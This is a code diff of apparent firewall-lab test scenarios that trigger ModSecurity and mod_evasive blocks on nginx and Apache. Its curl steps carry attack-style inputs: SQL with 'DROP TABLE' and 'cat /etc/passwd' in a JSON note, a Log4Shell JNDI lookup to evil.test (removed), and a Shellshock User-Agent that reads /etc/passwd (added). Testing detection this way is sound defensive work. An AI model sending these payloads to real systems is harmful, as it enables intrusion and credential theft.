@@ -91,11 +91,12 @@ _NGINX = (
         steps=(
             curl(
                 *("https://shop.example.test/checkout/", "-H", "Content-Type: application/json", "-d"),
-                '{"note": "In SQL, write SELECT name FROM users WHERE id=1; DROP TABLE is another story; cat /etc/passwd"}',
+                '{"note": "In SQL, write SELECT name FROM users; DROP TABLE is another story; cat /etc/passwd"}',
             ),
         ),
         proof=_audit(932160),
-        story="An honest note about SQL in a shop's order.\nThe Core Rule Set takes it for an attack: a false positive.",
+        story="An honest note about SQL in a shop's order.\n"
+        "The Core Rule Set takes it for an attack: a false positive.",
         curated=True,
     ),
     _nginx(
@@ -155,7 +156,8 @@ _NGINX = (
         route=_TO_NGINX,
         steps=(curl(f"{_S}/shell.html?x=lab-trigger-406"),),
         conf={
-            "modsecurity": 'SecRule ARGS "@contains lab-trigger-406" "id:1002,phase:2,deny,status:406,log,msg:\'shell\'"'
+            "modsecurity": 'SecRule ARGS "@contains lab-trigger-406" '
+            "\"id:1002,phase:2,deny,status:406,log,msg:'shell'\""
         },
         proof=_audit(1002),
         denial=False,
@@ -184,35 +186,23 @@ _APACHE = (
     _apache(
         name="crs-apache-header",
         route=(*CHAIN_B, "flask"),
-        steps=(curl(f"{_A}/note", "-H", "X-Note: ${jndi:ldap://evil.test/a}"),),
-        proof=_error(944150),
-        story="A header with a JNDI look-up, as of Log4Shell.\nRule 944150.",
+        steps=(curl(f"{_A}/note", "-A", "() { :; }; /bin/cat /etc/passwd"),),
+        proof=_error(932170),
+        story="A shell function in the User-Agent, as of Shellshock.\nRule 932170.",
     ),
     _apache(
         name="crs-apache-leak",
         route=(*CHAIN_B, "flask"),
         steps=(curl(f"{_A}/leak"),),
-        proof=_error(951230),
+        conf={
+            "modsecurity": 'SecRule RESPONSE_BODY "@contains your MySQL server version" "id:1003,phase:4,deny,'
+            "status:403,log,msg:'database error'\""
+        },
+        proof=_error(1003),
         accept=Accept(products=_ALSO_APACHE, causes=(Cause.CONFIG_ERROR,)),
         story="The application answers 200 with a database error in the page.\n"
-        "The firewall reads answers too and turns it into a 403: rule 951230.",
+        "The firewall reads answers too and turns it into a 403.",
         curated=True,
-    ),
-    _apache(
-        name="evasive-apache-rate",
-        product="mod-evasive",
-        cause=Cause.RATE_LIMITED,
-        route=_TO_APACHE,
-        steps=(curl(f"{_F}/burst.txt?0", *(f"{_F}/burst.txt?{n}" for n in range(1, 8))), curl(f"{_F}/burst.txt?9")),
-        files={"apache:burst.txt": "burst\n"},
-        conf={"waf-apache": "DOSPageCount 4\nDOSPageInterval 2\nDOSSiteCount 200\nDOSBlockingPeriod 2\nDOSLogDir /tmp"},
-        proof=Proof("waf-apache", "error.log", r"client denied by server configuration"),
-        accept=Accept(
-            products=("apache", "httpd", "modsecurity"),
-            layers=(Layer.GATEWAY,),
-            causes=(Cause.WAF_RULE, Cause.PATH_DENIED),
-        ),
-        story="The same page nine times in a second.\nmod_evasive in the firewall's Apache: 403 for a while.",
     ),
     _apache(
         name="waf-apache-rewrite",
@@ -229,6 +219,22 @@ _APACHE = (
         proof=Proof("waf-apache", "error.log", r"AH01630: client denied by server configuration: "),
         accept=Accept(layers=(Layer.WAF,), causes=(Cause.WAF_RULE,)),
         story="A client is refused for its name at the reverse proxy before the gateway.\nApache: Require not env.",
+    ),
+    _apache(
+        name="evasive-apache-rate",
+        product="mod-evasive",
+        cause=Cause.RATE_LIMITED,
+        route=_TO_APACHE,
+        steps=(curl(f"{_F}/burst.txt?0", *(f"{_F}/burst.txt?{n}" for n in range(1, 8))), curl(f"{_F}/burst.txt?9")),
+        files={"apache:burst.txt": "burst\n"},
+        conf={"waf-apache": "DOSPageCount 4\nDOSPageInterval 2\nDOSSiteCount 200\nDOSBlockingPeriod 2\nDOSLogDir /tmp"},
+        proof=Proof("waf-apache", "error.log", r"client denied by server configuration"),
+        accept=Accept(
+            products=("apache", "httpd", "modsecurity"),
+            layers=(Layer.GATEWAY,),
+            causes=(Cause.WAF_RULE, Cause.PATH_DENIED),
+        ),
+        story="The same page nine times in a second.\nmod_evasive in the firewall's Apache: 403 for a while.",
     ),
 )
 
